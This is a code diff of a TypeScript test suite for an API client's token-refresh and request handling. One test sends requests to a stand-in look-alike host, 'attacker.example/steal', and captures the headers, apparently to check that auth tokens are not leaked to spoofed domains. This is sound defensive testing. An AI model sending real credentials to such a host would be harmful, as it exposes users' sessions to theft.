@@ -114,7 +114,7 @@ describe('client.fetchApi through createApi (ky)', () => {
     await createApi(client).get('me').json()
     expect(api.seen).toHaveLength(2)
     expect(api.seen[1]?.auth).not.toBe(`Bearer ${session.tokens.accessToken}`)
-    expect(cognito.ops('InitiateAuth').filter((c) => c.body.AuthFlow === 'REFRESH_TOKEN_AUTH')).toHaveLength(1)
+    expect(cognito.ops('GetTokensFromRefreshToken')).toHaveLength(1)
   })
 
   it('fails over idempotent requests on 5xx, not POSTs', async () => {
@@ -179,7 +179,12 @@ describe('client.fetchApi called directly with an absolute URL', () => {
     await signIn(client, cognito)
     const lookAlike = 'https://api.eu-west-1.test.attacker.example/steal'
     const seen: Headers[] = []
-    server.use(http.all(lookAlike, ({ request }) => (seen.push(request.headers), HttpResponse.json({}))))
+    server.use(
+      http.all(lookAlike, ({ request }) => {
+        seen.push(request.headers)
+        return HttpResponse.json({})
+      }),
+    )
     await client.fetchApi(lookAlike)
     await createApi(client).get(lookAlike)
     expect(seen).toHaveLength(2)
